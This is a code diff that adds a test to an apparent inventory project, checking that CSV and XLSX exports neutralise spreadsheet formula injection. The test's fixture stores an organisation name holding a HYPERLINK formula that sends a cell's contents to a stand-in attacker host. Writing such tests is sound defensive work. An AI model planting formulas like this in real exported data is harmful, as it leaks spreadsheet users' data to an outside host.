@@ -334,3 +334,20 @@ def test_query_explains_a_read_with_comments_and_dashes_in_strings(ctx):
     result = query.run(ctx, "/* plan */ EXPLAIN -- of a read\n SELECT '--not a comment' AS x")
     assert result.rows
     assert query.run(ctx, "SELECT '--x' AS x -- trailing").rows == [("--x",)]
+
+
+def test_text_a_spreadsheet_would_run_is_neutralised(ctx, tmp_path):
+    from tests.helpers import receive
+
+    make_hub(ctx)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    reference.add_organisation(ctx, key="o-evil", code="EVIL", name=evil, type="ngo")
+    receive(ctx, "RICE", 5, key="r-evil", owner="EVIL")
+    table = exports.export(ctx, "stock")
+    out_csv, out_xlsx = tmp_path / "s.csv", tmp_path / "s.xlsx"
+    exports.write(table, out_csv, "csv")
+    exports.write(table, out_xlsx, "xlsx")
+    assert f"'{evil}".replace('"', '""') in out_csv.read_text()
+    cells = [c.value for row in load_workbook(out_xlsx).active.iter_rows() for c in row]
+    assert "'" + evil in cells and evil not in cells
+    assert 5 in cells  # numbers stay numbers
